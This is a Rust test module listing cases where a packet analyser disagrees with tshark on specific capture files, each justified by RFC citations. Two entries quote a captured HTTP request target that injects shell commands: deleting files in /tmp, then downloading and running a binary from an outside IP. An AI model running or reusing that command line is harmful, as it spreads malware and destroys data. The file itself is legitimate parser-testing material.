//! Disagreements in which the truth is wrong, each with the words that say so.
//!
//! An entry settles one fault of one packet, word for word. One that settles nothing any more fails the test,
//! so that the list cannot rot.

/// One disagreement.
struct Dispute {
    file: &'static str,
    packet: u64,
    /// The fault as the comparison tells it.
    fault: &'static str,
    #[expect(dead_code, reason = "for whoever reads the table")]
    because: &'static str,
}

pub(crate) struct Disputes {
    used: Vec<bool>,
}

impl Disputes {
    pub(crate) fn new() -> Self {
        Self { used: vec![false; TABLE.len()] }
    }

    /// Whether the table has this fault.
    pub(crate) fn settles(&mut self, file: &str, packet: Option<u64>, fault: &str) -> bool {
        let found = TABLE
            .iter()
            .position(|entry| entry.file == file && Some(entry.packet) == packet && entry.fault == fault);
        if let Some(at) = found {
            self.used[at] = true;
        }
        found.is_some()
    }

    /// Entries that settled nothing.
    pub(crate) fn stale(&self) -> impl Iterator<Item = String> {
        let unused = TABLE.iter().zip(&self.used).filter(|(_, used)| !**used);
        unused.map(|(entry, _)| format!("dispute: {} packet {}: {}", entry.file, entry.packet, entry.fault))
    }
}

const NO_HEADER: &str = "\
    RFC 1035, 4.1.1: a message begins with a header of 12 bytes; 4 of them were captured";
const QUERY_PAST_GAP: &str = "\
    the truth asserts nothing past a gap; RFC 1035, 7.3 and RFC 7766, 7: a response is matched by id and \
    question, and the query stands whole in packet 10";
const SPACE_IN_TARGET: &str = "\
    RFC 9112, 3.2: whitespace is not allowed in a target, and some agents send it; by 3 the line is \
    method, target, version, and no version begins with a URL";
const INCOMPLETE: &str = "\
    RFC 9112, 8: a message whose body is cut off is to be recorded as incomplete, and its status line \
    was sent; tshark leaves such messages out";
const EMPTY_LINE: &str = "\
    RFC 9112, 2.1: fields end with an empty line; tshark ends them at a line that is not empty";
const INVALID_STATUS: &str = "\
    RFC 9110, 15: a code outside of 100..599 is treated as 5xx, so it is a final response; the truth \
    takes 000 for an interim one";
const ANY_METHOD: &str = "\
    RFC 9110, 9.1: a method is any token; tshark reads those alone that it knows";
const NOT_CHUNKED: &str = "\
    RFC 9110, 10.1.4: a transfer coding is named by a token, and DEL is in none; RFC 9112, 6.3: where \
    the last coding is not chunked the body is read until the connection closes";
const BARE_CR: &str = "\
    RFC 9112, 2.2: a bare CR is replaced by a space or invalid, and begins no field; 6.3: without a \
    length the body is read until the connection closes";
const LEADING_LINES: &str = "\
    RFC 9112, 2.2: a line may end with LF alone, and robust readers pass over empty ones before a start \
    line; tshark finds no response, and the status line is there";
const PAST_GAP: &str = "\
    the truth asserts nothing past a gap; RFC 9112, 9.3.2: responses come in the order of requests, and \
    this one was sent when nothing else waited";
const ALL_CODINGS: &str = "\
    RFC 9110, 5.3: two Content-Encoding fields are one list, and 8.4: each coding of the list was \
    applied; tshark undoes one";
const LF_ALONE: &str = "\
    RFC 9112, 2.2: a line may end with LF alone; this is a status line with one field after a STARTTLS, \
    and tshark goes on with SMTP";
const BODY_TOO: &str = "\
    RFC 9112, 6: the body is a part of the message, and Content-Length announces it; over SCTP tshark \
    takes a message to end with its first packet";
const PADDED: &str = "\
    RFC 9293, 3.4: sequence numbers count the sender's bytes; a device padded segments that had none \
    with zeros, and with these counted in no segment joins the next";
const WHITESPACE: &str = "\
    RFC 9112, 3: a recipient may split the line at runs of whitespace; tshark takes the space between \
    two spaces for the target";
const ERSPAN_ETHERTYPE: &str = "\
    draft-foschiano-erspan: 0x88BE names ERSPAN; what follows is a frame with an echo request, which \
    tshark does not open behind an EtherType";
const ONE_FIN: &str = "\
    RFC 9293, 3.6: a connection is closed by a FIN of each end; both of these are the server's, the \
    second a retransmission";
const TWO_INTERFACES: &str = "\
    both packets have one identification (RFC 6864, 4), one time, and other interfaces of the file: one \
    packet, heard twice";
const IDLE_FLOW: &str = "\
    RFC 5382, REQ-5: a connection may be given up after two idle hours; the last packet comes 31 days \
    after the one before it";
const BIG_TCP: &str = "\
    RFC 768 ends at 65,535 bytes: Linux gives a super-segment the length 0, which tshark 4.0 takes for \
    malformed; it is a tunnel, and the inner flow is the one reported";
const TLS_ANYWHERE: &str = "\
    RFC 8446, 5.1: a record is known by its header, whatever the port and whatever was said before it; \
    tshark goes by the port";
const QUIC_ANYWHERE: &str = "\
    RFC 9001, 5.2: the keys of Initial packets follow from the version and the client's connection id, and \
    open these, on whatever port; tshark goes by the port";
const ONE_ASSOCIATION: &str = "\
    RFC 9260, key terms: two endpoints have no more than one association at a time; that of these ends began in \
    packet 23, and tshark numbers packet 65 apart";
const PART_OF_RECORD: &str = "\
    RFC 8446, 5.1: a record announces its length; a ClientHello began, and the rest of its record never \
    came";
const BIFLOW: &str = "\
    RFC 5103, 2: the packets of both directions between two ends are one flow; tshark 4.0 has two, one \
    for each direction";
const TEREDO: &str = "\
    RFC 4380, 5.1.1: the datagram carries an IPv6 packet, so that the inner flow is the one reported; \
    that its packets are heard is asked under icmp";
const UDP_LENGTH: &str = "\
    RFC 768: the length is 8 at least; a datagram of length 0 is none, and the one before it has 16 \
    bytes";
const SKIPPED_REPLY: &str = "\
    CLIENT REPLY ON is answered by +OK, though it comes after SKIP, and REPLY OFF with the PING behind it \
    by nothing: four answers to four of the seven commands";
const REFERENCE: &str = "\
    RFC 4511, 4.5.2: any number of references come before the SearchResultDone, which alone ends a search; \
    the truth takes the first reference for the answer";
const FIRST_COPY: &str = "\
    RFC 9293, 3.10.7.4: bytes that were received already are not taken again; packet 176 repeats 175";
const LDAP_PAST_GAP: &str = "\
    the truth asserts nothing past a gap; RFC 4511, 4.1.1.1: answers are matched by message id, and each \
    of these messages stands whole in a packet of its own";
const PADDING: &str = "\
    RFC 2865, 3: bytes beyond the length are padding; the datagram has 43, of which the packet takes 41";
const TWO_PACKETS: &str = "\
    tshark's own tcp.segment has the request begin two packets earlier, and the next request in this one; \
    the truth has no first packet of either";

const BLOCK_BEGINS: &str = "\
    RFC 9113, 4.3: a HEADERS frame and its CONTINUATION frames are one block, and the request begins with \
    the first byte of it; the truth counts from the packet that completes it";
const DATA_AS_IT_COMES: &str = "\
    RFC 9113, 6.1: DATA frames convey the octets of a message, and these are in the file; tshark shows no \
    frame whose end it has not met";
const BLOCK_LOST: &str = "\
    RFC 9113, 4.3: a header block is one unit; its HEADERS begins at sequence number 16509, and the 1,448 \
    bytes from there on were dropped";

const NO_HEAD: &str = "\
    RFC 6455, 5.2: a frame begins with its head; this one has 66,008 bytes, and 64,566 of its side are in \
    the file";
const NO_HANDSHAKE: &str = "\
    RFC 6455, 5.2 and 5.3: these are whole frames of readable texts, masked by the one end and not by the \
    other; the file begins after the handshake, and tshark goes by that";

const fn entry(file: &'static str, packet: u64, fault: &'static str, because: &'static str) -> Dispute {
    Dispute { file, packet, fault, because }
}

static TABLE: &[Dispute] = &[
    entry("ipfrag/ndpi__badpackets.pcap", 4, "no dns call cites it ( \"query not seen\")", NO_HEADER),
    entry("ipfrag/ndpi__badpackets.pcap", 12, "no dns call cites it ( \"query not seen\")", NO_HEADER),
    entry("ipfrag/ndpi__badpackets.pcap", 21, "no dns call cites it ( \"query not seen\")", NO_HEADER),
    entry("tcp/sv__dns-tcp-ts-gap__input.pcap", 11, "paired is true, tshark says false", QUERY_PAST_GAP),
    entry(
        "gre/sv__bug-5437-02__input.pcap",
        14,
        "target is \"/shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm\", tshark says \"/shell?cd+/tmp;rm+-rf+*;wget+\"",
        SPACE_IN_TARGET,
    ),
    entry(
        "gre/sv__bug-5437-02__input.pcap",
        17,
        "target is \"/shell?cd+/tmp;rm+-rf+*;wget+ http://23.94.7.175/.s4y/arm;sh+/tmp/arm\", tshark says \"/shell?cd+/tmp;rm+-rf+*;wget+\"",
        SPACE_IN_TARGET,
    ),
    entry("http1/merc__http_auth.pcap", 8, "paired is true, tshark says false", INCOMPLETE),
    entry("http1/ndpi__EAQ.pcap", 13, "paired is true, tshark says false", INCOMPLETE),
    entry(
        "http1_chunked/sv__http-evader-086__input.pcap",
        4,
        "paired is true, tshark says false",
        INCOMPLETE,
    ),
    entry("live/http1_nginx.pcap", 457, "not in the truth: POST /up/part -", INCOMPLETE),
    entry("live/http1_nginx.pcap", 462, "not in the truth: POST /up/part 200", INCOMPLETE),
    entry("ugly_live/http1_nginx__dupreorder.pcap", 479, "not in the truth: POST /up/part -", INCOMPLETE),
    entry("ugly_live/http1_nginx__dupreorder.pcap", 485, "not in the truth: POST /up/part 200", INCOMPLETE),
    entry("ugly_live/http1_nginx__loss2.pcap", 450, "not in the truth: POST /up/part -", INCOMPLETE),
    entry("ugly_live/http1_nginx__loss2.pcap", 455, "not in the truth: POST /up/part 200", INCOMPLETE),
    entry("ugly_live/http1_nginx__mid.pcap", 270, "not in the truth: POST /up/part -", INCOMPLETE),
    entry("ugly_live/http1_nginx__mid.pcap", 275, "not in the truth: POST /up/part 200", INCOMPLETE),
    entry("ugly_live/http1_nginx__oneway.pcap", 212, "not in the truth:   200", INCOMPLETE),
    entry("ugly_live/http1_nginx__vlan.pcap", 457, "not in the truth: POST /up/part -", INCOMPLETE),
    entry("ugly_live/http1_nginx__vlan.pcap", 462, "not in the truth: POST /up/part 200", INCOMPLETE),
    entry("http1/sv__http-evader-359__input.pcap", 4, "body is 68, tshark says 146", EMPTY_LINE),
    entry("http1_chunked/sv__http-evader-297__input.pcap", 4, "body is 158, tshark says 214", EMPTY_LINE),
    entry("http1_chunked/sv__http-evader-437__input.pcap", 4, "body is 68, tshark says 0", EMPTY_LINE),
    entry("http1/sv__http-evader-462__input.pcap", 4, "paired is true, tshark says false", INVALID_STATUS),
    entry(
        "http10/sv__detect-app-layer-protocol-03__input.pcap",
        7,
        "paired is true, tshark says false",
        ANY_METHOD,
    ),
    entry("live/http1_nginx.pcap", 282, "not in the truth: BREW /pot -", ANY_METHOD),
    entry("ugly_live/http1_nginx__dupreorder.pcap", 292, "not in the truth: BREW /pot -", ANY_METHOD),
    entry("ugly_live/http1_nginx__loss2.pcap", 279, "not in the truth: BREW /pot -", ANY_METHOD),
    entry("ugly_live/http1_nginx__mid.pcap", 95, "not in the truth: BREW /pot -", ANY_METHOD),
    entry("ugly_live/http1_nginx__snap128.pcap", 282, "not in the truth: BREW /pot -", ANY_METHOD),
    entry("ugly_live/http1_nginx__vlan.pcap", 282, "not in the truth: BREW /pot -", ANY_METHOD),
    entry("http1_chunked/sv__http-evader-312__input.pcap", 4, "took 83 us, tshark says 54", NOT_CHUNKED),
    entry("http1_chunked/sv__http-evader-388__input.pcap", 4, "took 131 us, tshark says 62", BARE_CR),
    entry(
        "http1_chunked/sv__http-evader-489__input.pcap",
        4,
        "paired is true, tshark says false",
        LEADING_LINES,
    ),
    entry(
        "http1_chunked/sv__http-evader-493__input.pcap",
        4,
        "paired is true, tshark says false",
        LEADING_LINES,
    ),
    entry(
        "http1_chunked/sv__http-pipeline-files-with-gap__input.pcap",
        108,
        "paired is true, tshark says false",
        PAST_GAP,
    ),
    entry(
        "http1_chunked/sv__http-pipeline-files-with-gap__input.pcap",
        113,
        "paired is true, tshark says false",
        PAST_GAP,
    ),
    entry("tcp/zeek__spicy__gap-recovery.pcap", 11, "paired is true, tshark says false", PAST_GAP),
    entry("tcp/zeek__spicy__gap-recovery.pcap", 15, "paired is true, tshark says false", PAST_GAP),
    entry("tcp/zeek__spicy__gap-recovery.pcap", 19, "paired is true, tshark says false", PAST_GAP),
    entry("tcp/zeek__spicy__gap-recovery.pcap", 24, "paired is true, tshark says false", PAST_GAP),
    entry("tcp/zeek__spicy__gap-recovery.pcap", 28, "paired is true, tshark says false", PAST_GAP),
    entry("tcp/zeek__spicy__gap-recovery.pcap", 33, "paired is true, tshark says false", PAST_GAP),
    entry("tcp/zeek__spicy__gap-recovery.pcap", 37, "paired is true, tshark says false", PAST_GAP),
    entry("tcp/zeek__spicy__gap-recovery.pcap", 42, "paired is true, tshark says false", PAST_GAP),
    entry("tcp/zeek__spicy__gap-recovery.pcap", 46, "paired is true, tshark says false", PAST_GAP),
    entry("http1_gzip/sv__http-evader-125__input.pcap", 4, "body is 68, tshark says 88", ALL_CODINGS),
    entry("http2/sv__protocol-change-failed-event__input.pcap", 8, "not in the truth:   101", LF_ALONE),
    entry("sctp/arkime__sctp-www.pcap", 5, "took 16183 us, tshark says 2133", BODY_TOO),
    entry("sctp/arkime__sctp-www.pcap", 21, "took 19019 us, tshark says 2070", BODY_TOO),
    entry("sctp/arkime__sctp-www.pcap", 27, "took 14748 us, tshark says 1796", BODY_TOO),
    entry(
        "tls/ndpi__heuristic_tcp_ack_payload.pcap",
        67,
        "not in the truth: GET /filestreamingservice/files/b4f27514-1618-47a0-bcd4-5fcb469e 206",
        PADDED,
    ),
    entry(
        "tls/ndpi__heuristic_tcp_ack_payload.pcap",
        86,
        "not in the truth: handshake firefox.settings.services.mozilla.com TLS1.2",
        PADDED,
    ),
    entry(
        "tls/ndpi__heuristic_tcp_ack_payload.pcap",
        166,
        "not in the truth: handshake moevideo.biz TLS1.2",
        PADDED,
    ),
    entry(
        "tls/ndpi__heuristic_tcp_ack_payload.pcap",
        186,
        "not in the truth: handshake portal.mail.ru TLS1.2",
        PADDED,
    ),
    entry(
        "tls/ndpi__heuristic_tcp_ack_payload.pcap",
        221,
        "not in the truth: handshake ru.pinterest.com TLS1.3",
        PADDED,
    ),
    entry("vlan/sv__detect-pcre-04__input.pcap", 1, "target is \"/\", tshark says \"\"", WHITESPACE),
    entry("vlan/sv__detect-pcre-04__input.pcap", 2, "target is \"/\", tshark says \"\"", WHITESPACE),
    entry("http2/arkime__arkime_synthetic.pcap", 304, "not in the truth: echo  -", ERSPAN_ETHERTYPE),
    entry("gre/sv__bug-5437-02__input.pcap", 30, "ended as open, tshark saw 2 FIN and 0 RST", ONE_FIN),
    entry("ldap/ppp__ldap.pcapng", 1, "packets is (1, 0), tshark says (2, 0)", TWO_INTERFACES),
    entry("ldap/ppp__ldap.pcapng", 9, "packets is (8, 8), tshark says (8, 9)", IDLE_FLOW),
    entry(
        "vxlan/tcpdump__bigtcp-ipv4-vxlan-ipv6.pcap",
        1,
        "not in the truth: fd00::2:33673 -> fd00::1:36425",
        BIG_TCP,
    ),
    entry(
        "vxlan/tcpdump__bigtcp-ipv4-vxlan-ipv6.pcap",
        1,
        "no flow 10.25.132.11:60879 -> 10.25.132.13:4789",
        BIG_TCP,
    ),
    entry(
        "http1_gzip/ndpi__ookla.pcap",
        88,
        "not in the truth: handshake spd-pub-mi-01-01.fastwebnet.it TLS1.3",
        TLS_ANYWHERE,
    ),
    entry(
        "tls/zeek__rdp__rdp-no-cookie-mstshash.pcap",
        11,
        "not in the truth: handshake  TLS1.2",
        TLS_ANYWHERE,
    ),
    entry("http2/arkime__arkime_synthetic.pcap", 282, "not in the truth: handshake  -", PART_OF_RECORD),
    entry("gtp/arkime__gtp-iphone.pcap", 48, "packets is (14, 13), tshark says (14, 0)", BIFLOW),
    entry("gtp/arkime__gtp-iphone.pcap", 64, "packets is (13, 14), tshark says (13, 0)", BIFLOW),
    entry(
        "http10/sv__decode-teredo-01__input.pcap",
        6,
        "no flow 192.168.2.16:3797 -> 65.55.158.80:3544",
        TEREDO,
    ),
    entry(
        "http10/sv__decode-teredo-01__input.pcap",
        7,
        "no flow 65.55.158.81:3544 -> 192.168.2.16:3797",
        TEREDO,
    ),
    entry("http2/arkime__arkime_synthetic.pcap", 818, "bytes is (16, 0), tshark says (0, 0)", UDP_LENGTH),
    entry(
        "redis/zeek__redis__client-skip-while-off.pcap",
        7,
        "paired is true, tshark says false",
        SKIPPED_REPLY,
    ),
    entry("ldap/ppp__ldap.pcapng", 8, "paired is true, tshark says false", REFERENCE),
    entry("ldap/zeek__ldap__aduser1.pcap", 50, "paired is true, tshark says false", REFERENCE),
    entry("ugly_live/ldap_slapd__dupreorder.pcap", 166, "the response does not cite packet 176", FIRST_COPY),
    entry("ldap/ppp__ldap.pcapng", 12, "not in the truth: search  -", LDAP_PAST_GAP),
    entry("ldap/ppp__ldap.pcapng", 14, "not in the truth: modify  success", LDAP_PAST_GAP),
    entry(
        "ldap/ppp__ldap.pcapng",
        16,
        "not in the truth: delete cn=b.smith,ou=moved,ou=ldap3-tutorial,dc=demo1,dc=freeipa,dc success",
        LDAP_PAST_GAP,
    ),
    entry("ldap/ppp__ldap.pcapng", 18, "not in the truth: compare  noSuchObject", LDAP_PAST_GAP),
    entry("ldap/ppp__ldap.pcapng", 19, "not in the truth: search  success", LDAP_PAST_GAP),
    entry(
        "ldap/ppp__ldap.pcapng",
        20,
        "not in the truth: add cn=b.young,ou=ldap3-tutorial,dc=demo1,dc=freeipa,dc=org success",
        LDAP_PAST_GAP,
    ),
    entry("ldap/ppp__ldap.pcapng", 23, "not in the truth: extended 0.1.2.3 protocolError", LDAP_PAST_GAP),
    entry("ldap/ppp__ldap.pcapng", 25, "not in the truth: delete  noSuchObject", LDAP_PAST_GAP),
    entry("http2/arkime__arkime_synthetic.pcap", 896, "length is Some(43), tshark says Some(41)", PADDING),
    entry("live/diameter_freediameter.pcap", 50, "took 322219 us, tshark says 359", TWO_PACKETS),
    entry("ugly_live/diameter_freediameter__loss2.pcap", 49, "took 322219 us, tshark says 359", TWO_PACKETS),
    entry("ugly_live/diameter_freediameter__mid.pcap", 25, "took 322219 us, tshark says 359", TWO_PACKETS),
    entry("ugly_live/diameter_freediameter__vxlan.pcap", 50, "took 322219 us, tshark says 359", TWO_PACKETS),
    entry(
        "http2/arkime__http2-nghttp2.pcap",
        22,
        "first byte after 834995 us, tshark says 333890",
        BLOCK_BEGINS,
    ),
    entry("live/http2_nghttp.pcap", 54, "first byte after 3454 us, tshark says 3381", BLOCK_BEGINS),
    entry("live/http2_nghttp.pcap", 78, "first byte after 3435 us, tshark says 3385", BLOCK_BEGINS),
    entry("live/http2_nghttp.pcap", 472, "first byte after 19450 us, tshark says 19445", BLOCK_BEGINS),
    entry(
        "ugly_live/http2_nghttp__qinq.pcap",
        54,
        "first byte after 3454 us, tshark says 3381",
        BLOCK_BEGINS,
    ),
    entry(
        "ugly_live/http2_nghttp__qinq.pcap",
        78,
        "first byte after 3435 us, tshark says 3385",
        BLOCK_BEGINS,
    ),
    entry(
        "ugly_live/http2_nghttp__qinq.pcap",
        472,
        "first byte after 19450 us, tshark says 19445",
        BLOCK_BEGINS,
    ),
    entry(
        "ugly_live/http2_nghttp__mid.pcap",
        280,
        "first byte after 19450 us, tshark says 19445",
        BLOCK_BEGINS,
    ),
    entry("live/http2_nghttp.pcap", 119, "data asked is 4830, tshark says 0", DATA_AS_IT_COMES),
    entry("ugly_live/http2_nghttp__qinq.pcap", 119, "data asked is 4830, tshark says 0", DATA_AS_IT_COMES),
    entry(
        "ugly_live/http2_nghttp__dupreorder.pcap",
        123,
        "data asked is 4830, tshark says 0",
        DATA_AS_IT_COMES,
    ),
    entry("grpc/df__http__grpc-unary.pcap", 1, "data answered is 1336, tshark says 0", DATA_AS_IT_COMES),
    entry("ugly_live/http2_nghttp__loss2.pcap", 75, "no http2 call cites it (/f0.txt null)", BLOCK_LOST),
    entry("ugly_live/websocket_echo__mid.pcap", 46, "no websocket call cites it (opcode 1)", NO_HEAD),
    entry("websocket/ndpi__websocket.pcap", 2, "not in the truth: text  -", NO_HANDSHAKE),
    entry("websocket/ndpi__websocket.pcap", 3, "not in the truth: text  -", NO_HANDSHAKE),
    entry("websocket/ndpi__websocket.pcap", 4, "not in the truth: text  -", NO_HANDSHAKE),
    entry("websocket/ndpi__websocket.pcap", 5, "not in the truth: text  -", NO_HANDSHAKE),
    entry("quic/zeek__quic__quicdoq.pcap", 1, "not in the truth: handshake  TLS1.3", QUIC_ANYWHERE),
    entry(
        "sctp/arkime__sctp-www.pcap",
        65,
        "no association 203.255.252.194:80 -> 155.230.24.155:32837 begins there",
        ONE_ASSOCIATION,
    ),
];
